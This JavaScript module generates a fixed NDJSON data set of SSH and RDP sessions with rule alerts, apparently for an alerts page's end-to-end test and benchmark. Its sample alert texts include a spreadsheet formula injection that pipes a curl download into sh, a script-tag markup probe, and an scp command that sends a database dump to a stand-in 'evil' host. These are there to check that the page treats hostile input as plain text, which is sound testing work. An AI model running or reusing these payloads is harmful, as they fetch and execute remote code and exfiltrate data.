// The alerts page's data set, for its end-to-end test and its benchmark:
// sessions (SSH and RDP, one an hour from 2026-10-01) with alerts of a few
// rules, one rare, as NDJSON for the simulator's --data. Deterministic: the
// same arguments give the same file.

const HOUR = 3_600_000;
const BASE_MS = Date.parse('2026-10-01T00:00:00Z');
const iso = (ms) => new Date(ms).toISOString();
/** Alert times are naive (UTC) with microseconds, as the reference shows. */
const naive = (ms) => new Date(ms).toISOString().replace('Z', '000');

const RULES = [
  { name: 'SudoUse', regexp: 'sudo\\s+\\S+', text: (i) => `admin@db:~$ sudo systemctl restart app${i}` },
  { name: 'RemoveAll', regexp: 'rm\\s+-rf', text: (i) => `root@web:/# rm -rf /tmp/build-${i}` },
  { name: 'PasswordChange', regexp: '(?i)passwd', text: (i) => `user${i}@app:~$ PASSWD bob` },
  // A formula a spreadsheet would run, and markup: both stay text.
  { name: 'Download', regexp: 'curl\\s+https?://', text: (i) => `=cmd|' /C curl http://198.51.100.${i % 250}/x.sh | sh <script>alert(1)</script>` },
];
const RARE = { name: 'Exfiltration', regexp: 'scp\\s', text: (i) => `ops@ci:~$ scp dump-${i}.sql evil@203.0.113.9:` };
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank'];
const SERVERS = ['db-01', 'web-01', 'app-02', 'ci-03'];

/** A small deterministic generator (mulberry32), so the data set is fixed. */
function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function alertsDataset({ sshSessions, otherSessions, alertsPerSession = null, seed = 7 }) {
  const rand = random(seed);
  const lines = [];
  for (let i = 0, ssh_made = 0, other_made = 0; ssh_made < sshSessions || other_made < otherSessions; i++) {
    // 5 of every 7 SSH while both are wanted, then what is left.
    const ssh = other_made >= otherSessions || (ssh_made < sshSessions && i % 7 < 5);
    if (ssh) ssh_made += 1; else other_made += 1;
    const protocol = ssh ? 'SSH' : 'RDP';
    const startMs = BASE_MS + i * HOUR;
    const duration = 1800;
    // A few sessions have the rare rule (and so at least one alert).
    const rare = ssh && i % 97 === 4;
    const random_count = ssh ? Math.max(Math.floor(rand() * 14), rare ? 1 : 0) : Math.floor(rand() * 3);
    const count = ssh && alertsPerSession !== null ? alertsPerSession : random_count;
    const alerts = [];
    for (let n = 0; n < count; n++) {
      const rule = (rare && n === 0) ? RARE : RULES[Math.floor(rand() * rand() * RULES.length)];
      const at = startMs + 5_000 + Math.floor(rand() * (duration - 10) * 1000);
      alerts.push({
        alert_type: 'adp.event.command',
        channel_id: '1',
        matched_action: rule.text(i),
        matched_content: rule.text(i),
        matched_regexp: rule.regexp,
        record_id: 10 + n,
        rule_name: rule.name,
        time: naive(at),
      });
    }
    lines.push({
      key: `s-${String(i).padStart(4, '0')}`,
      body: {
        protocol,
        start_time: iso(startMs),
        end_time: iso(startMs + duration * 1000),
        duration,
        active: false,
        verdict: 'ACCEPT',
        origin: 'RECORDING',
        user: { gateway_username: USERS[i % USERS.length], server_username: ['root'], name: 'op' },
        server: { ip: `10.0.0.${i % 200}`, name: SERVERS[i % SERVERS.length], port: 22 },
        client: { ip: '192.0.2.10', name: 'ws-1', port: 50000 },
        recording: { connection_policy: 'prod', channel_policy: 'prod', index_status: 'INDEXED', verdict: 'ACCEPT' },
        channel: [{
          channel_id: 1, type: 'session shell', verdict: 'accept', active: false,
          start_time: iso(startMs), end_time: iso(startMs + duration * 1000), duration,
        }],
      },
      alerts,
    });
  }
  return lines.map((l) => JSON.stringify(l)).join('\n') + '\n';
}

